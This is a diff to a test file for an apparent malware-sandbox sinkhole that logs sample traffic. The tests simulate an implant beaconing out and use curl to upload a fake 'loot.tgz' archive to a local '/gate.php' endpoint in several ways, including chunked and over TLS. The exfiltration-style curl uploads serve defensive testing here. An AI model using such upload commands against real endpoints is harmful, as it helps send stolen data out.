@@ -3,7 +3,7 @@
 // dns.test.ts and end to end in test/analyze.test.ts).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { createPrivateKey, X509Certificate } from 'node:crypto';
+import { createHash, createPrivateKey, X509Certificate } from 'node:crypto';
 import { execFile } from 'node:child_process';
 import { mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
 import { createConnection, createServer, type Server, type Socket } from 'node:net';
@@ -208,7 +208,9 @@ test('catchSession with TLS: a sample that does not check certificates completes
     const s = log.log().sessions;
     assert.deepEqual(s.slice(3).map((x) => [x.protocol, x.sni, x.decrypted !== undefined]), [['tls', 'garbage.example.test', false], ['tls', undefined, false]]);
     assert.deepEqual(s.map((x) => [x.protocol, x.sni, x.decrypted !== undefined]).slice(0, 3), [['tls', 'secure.example.test', true], ['tls', 'checked.example.test', false], ['tls', 'pool.example.test', true]]);
-    assert.deepEqual(s[0]?.http, { method: 'POST', path: '/api/v2/beacon?id=devbox', host: 'secure.example.test', userAgent: 'implant/2.1' });
+    assert.deepEqual(s[0]?.http, {
+      method: 'POST', path: '/api/v2/beacon?id=devbox', host: 'secure.example.test', userAgent: 'implant/2.1', body: { bytes: 4, sha256: createHash('sha256').update('loot').digest('hex'), preview: 'loot' },
+    });
     assert.equal(s[0]?.decrypted?.bytes, Buffer.byteLength(request));
     assert.match(s[0]?.preview ?? '', /^\\x16\\x03/, 'the preview is still the bytes on the wire (the ClientHello)');
     assert.equal(s[1]?.http, undefined);
@@ -360,5 +362,32 @@ test('catchSession on the IMAP listener: Python imaplib logs in, selects the emp
     assert.deepEqual(log.log().sessions.map((x) => [x.protocol, x.login]), [['imap', { mechanism: 'LOGIN', user: 'orders@example.test', password: 'pw 1' }]]);
   } finally {
     server.close();
+  }
+});
+
+test('catchSession reads an HTTP upload\'s body before it answers: curl\'s POST of a file (with Expect: 100-continue, and chunked) gets its 200 and the body\'s size, SHA-256 and first bytes are kept; over TLS too', async () => {
+  const log = new SessionLog();
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 80, domain: 'panel.example.test' }), { tls: sinkholeTlsContext }));
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const { port } = server.address() as { port: number };
+  const dir = mkdtempSync(join(tmpdir(), 'sandtrace-upload-'));
+  try {
+    const loot = Buffer.concat([Buffer.from('\x1f\x8b\x08\x00', 'latin1'), Buffer.alloc(300_000, 0x5a)]);
+    const file = join(dir, 'loot.tgz');
+    writeFileSync(file, loot);
+    const curl = (args: string[]) => new Promise<{ code: number; out: string }>((resolve) => {
+      execFile('curl', ['-s', '-m', '20', '-o', '/dev/null', '-w', '%{http_code}', ...args], (e, out) => resolve({ code: e ? Number(e.code ?? 1) : 0, out }));
+    });
+    assert.deepEqual(await curl(['--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
+    assert.deepEqual(await curl(['-H', 'Expect: 100-continue', '--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
+    assert.deepEqual(await curl(['-H', 'Transfer-Encoding: chunked', '--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
+    assert.deepEqual(await curl(['-k', '--data-binary', `@${file}`, `https://localhost:${port}/gate.php`]), { code: 0, out: '200' });
+    const want = { bytes: loot.length, sha256: createHash('sha256').update(loot).digest('hex'), preview: `\\x1f\\x8b\\x08\\x00${'Z'.repeat(252)}` };
+    const s = log.log().sessions;
+    assert.deepEqual(s.map((x) => [x.protocol, x.http?.method, x.http?.body]), [['http', 'POST', want], ['http', 'POST', want], ['http', 'POST', want], ['tls', 'POST', want]]);
+    assert.ok((s[0]?.bytes ?? 0) > loot.length, 'every byte was read');
+  } finally {
+    server.close();
+    rmSync(dir, { recursive: true, force: true });
   }
 });
